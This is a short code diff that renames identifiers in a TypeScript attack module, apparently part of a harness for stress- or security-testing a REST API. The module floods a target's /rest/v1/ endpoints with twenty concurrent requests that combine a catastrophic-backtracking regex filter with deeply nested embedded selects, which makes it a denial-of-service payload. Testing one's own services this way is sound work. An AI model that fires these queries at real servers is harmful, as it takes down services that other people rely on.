@@ -1,4 +1,4 @@
-import { type Attack, call, flood } from '../attack.ts';
+import { type Attack, call, floodServer } from '../attack.ts';
 
 const endless = encodeURIComponent('^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$');
 const queries = (event: string) => [
@@ -9,15 +9,15 @@ const queries = (event: string) => [
   'tier_plans?select=id,subscriptions(tier_plans(subscriptions(tier_plans(id))))',
 ];
 
-export const filters: Attack = {
+export const endlessFilterAttack: Attack = {
   name: 'filters that never end',
-  against: 'patterns in filters',
-  run(target, until) {
+  threat: 'patterns in filters',
+  run(target, signal) {
     const paths = queries(target.ownEvent);
-    return flood(
+    return floodServer(
       20,
-      (index) => call(target, `/rest/v1/${paths[index % paths.length]}`, {}, until),
-      until,
+      (index) => call(target, `/rest/v1/${paths[index % paths.length]}`, {}, signal),
+      signal,
     );
   },
 };
